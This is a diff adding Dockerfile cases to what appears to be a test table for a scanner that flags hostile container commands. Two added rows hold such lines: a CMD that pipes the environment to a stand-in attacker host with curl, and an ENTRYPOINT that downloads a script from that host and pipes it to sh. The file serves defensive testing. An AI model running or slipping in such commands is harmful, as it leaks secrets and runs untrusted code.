@@ -507,6 +507,24 @@ const ROWS: Row[] = [
     blocked: true,
   },
   {
+    note: "Dockerfile CMD that sends the container's environment out at start",
+    file: 'Dockerfile',
+    content: 'FROM node:20\nCMD ["sh", "-c", "env | curl -s -d @- https://x.evil.example/c; npm start"]\n',
+    blocked: true,
+  },
+  {
+    note: 'Dockerfile ENTRYPOINT in shell form, continued over two lines',
+    file: 'Dockerfile',
+    content: 'FROM node:20\nENV NODE_ENV=production\nENTRYPOINT curl -s https://x.evil.example/e \\\n  | sh\n',
+    blocked: true,
+  },
+  {
+    note: 'near miss: Dockerfile CMD and ENV of an ordinary service',
+    file: 'Dockerfile',
+    content: 'FROM node:20\nENV NODE_ENV production\nENTRYPOINT ["node"]\nCMD ["server.js"]\nEXPOSE 3000\n',
+    blocked: false,
+  },
+  {
     note: 'near miss: Dockerfile RUN (runs inside the image being built)',
     file: 'Dockerfile',
     content: 'FROM node:20\nRUN apt-get update && apt-get install -y curl\nRUN npm ci\n',
